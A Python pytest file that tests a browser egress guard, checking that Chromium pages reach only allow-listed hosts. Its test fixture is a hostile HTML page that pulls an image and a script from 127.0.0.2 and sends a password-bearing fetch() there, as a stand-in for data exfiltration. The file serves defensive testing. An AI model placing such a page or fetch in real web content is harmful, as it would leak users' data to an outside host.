"""The browser page sends nothing to a host outside ``allowed_hosts`` (issue #12, finding 2).

Two locks, each tested alone and together. The run's Chromium resolves every name outside
the list to nothing (rehearsal.browser launch args, which also stop address literals such
as 127.0.0.2); and the route guard (rehearsal.browser.guard_hosts, set on every ``web``
page) aborts any request to another host whatever the launch arguments are, and names it
in one line. A hostile page on 127.0.0.1 pulls an image, a script and a fetch from
127.0.0.2, and navigates there; a listener on 127.0.0.2 counts connections and keeps what
arrives.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hostile_http import ELSEWHERE, Listener, Scripted
from playwright.sync_api import Browser, Error, Playwright, sync_playwright

from rehearsal.browser import guard_hosts

CHROMIUM = os.environ.get("REHEARSAL_CHROMIUM", "/usr/bin/chromium")
ALLOWED = ["127.0.0.1", "localhost"]
RUN_RULES = "MAP * ~NOTFOUND , " + " , ".join(f"EXCLUDE {h}" for h in ALLOWED)  # as rehearsal.browser builds
OPEN_RULES = f"{RUN_RULES} , EXCLUDE {ELSEWHERE}"  # nothing leaves the machine, but 127.0.0.2 is let through

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def playwright() -> Iterator[Playwright]:
    with sync_playwright() as driver:
        yield driver


def _launch(playwright: Playwright, rules: str) -> Browser:
    launch: dict[str, Any] = {"headless": True, "args": ["--no-sandbox", f"--host-resolver-rules={rules}"]}
    if Path(CHROMIUM).exists() and not os.environ.get("PLAYWRIGHT_BROWSERS_PATH"):
        launch["executable_path"] = CHROMIUM
    return playwright.chromium.launch(**launch)


@pytest.fixture(scope="module")
def run_chromium(playwright: Playwright) -> Iterator[Browser]:
    browser = _launch(playwright, RUN_RULES)
    yield browser
    browser.close()


@pytest.fixture(scope="module")
def open_chromium(playwright: Playwright) -> Iterator[Browser]:
    browser = _launch(playwright, OPEN_RULES)
    yield browser
    browser.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    peer = Listener()
    yield peer
    peer.close()


def hostile_page(elsewhere: str) -> bytes:
    return f"""<!doctype html><html><body><p id=own>Sidan</p>
<img src="http://{elsewhere}/pixel.png"><script src="http://{elsewhere}/x.js"></script>
<script>fetch("http://{elsewhere}/api?pw=1", {{mode: "no-cors"}}).then(
  () => document.body.dataset.fetch = "sent", () => document.body.dataset.fetch = "stopped");</script>
</body></html>""".encode()


def run_page(browser: Browser, listener: Listener, guarded: bool) -> tuple[list[str], Any]:
    """The hostile page, then a navigation to the other address; (lines the guard said, the fetch's fate)."""
    server = Scripted(lambda path: (200, {"Content-Type": "text/html"}, hostile_page(listener.host_port)))
    context = browser.new_context()
    context.set_default_timeout(5_000)
    lines: list[str] = []
    if guarded:
        guard_hosts(context, ALLOWED, lines.append)
    try:
        page = context.new_page()
        page.goto(f"{server.base}/")
        page.wait_for_function("document.body.dataset.fetch !== undefined")
        outcome = page.evaluate("document.body.dataset.fetch")
        if guarded:
            with pytest.raises(Error, match="ERR_BLOCKED_BY_CLIENT|ERR_NAME_NOT_RESOLVED"):
                page.goto(f"http://{listener.host_port}/login")
        page.wait_for_timeout(700)  # what the listener was sent has arrived
    finally:
        context.close()
        server.close()
    return lines, outcome


def assert_one_line_per_origin(lines: list[str], listener: Listener) -> None:
    assert lines, "the guard said nothing"
    assert len(lines) == len(set(lines)) == 1, lines  # one line per refused origin, however many requests
    (line,) = lines
    assert "\n" not in line and f"http://{listener.host_port}/" in line
    assert f"host '{ELSEWHERE}' is not in environment.allowed_hosts (127.0.0.1, localhost)" in line


def test_the_runs_browser_sends_nothing_to_another_address(run_chromium: Browser, listener: Listener) -> None:
    """As in a rehearsal: the launch's resolver rules and the guard together. 0 connections."""
    lines, fetched = run_page(run_chromium, listener, guarded=True)
    assert fetched == "stopped"
    assert listener.count == 0, listener.heads
    assert_one_line_per_origin(lines, listener)
    listener.assert_live()


def test_the_guard_alone_lets_no_request_through(open_chromium: Browser, listener: Listener) -> None:
    """A resolver that lets 127.0.0.2 through: every request is aborted before it is sent.

    Chromium may open a bare TCP connection to a navigation's target before the request
    exists (its preconnect); not one byte of a request, so no credentials, reaches it.
    """
    lines, fetched = run_page(open_chromium, listener, guarded=True)
    assert fetched == "stopped"
    assert listener.heads == [b""] * listener.count and listener.count <= 1, listener.heads
    assert_one_line_per_origin(lines, listener)


def test_without_the_guard_that_browser_does_reach_it(open_chromium: Browser, listener: Listener) -> None:
    """The control: the same page in the same browser, no guard: the listener gets the requests."""
    _, fetched = run_page(open_chromium, listener, guarded=False)
    assert listener.count > 0 and any(head.startswith(b"GET /") for head in listener.heads), listener.heads
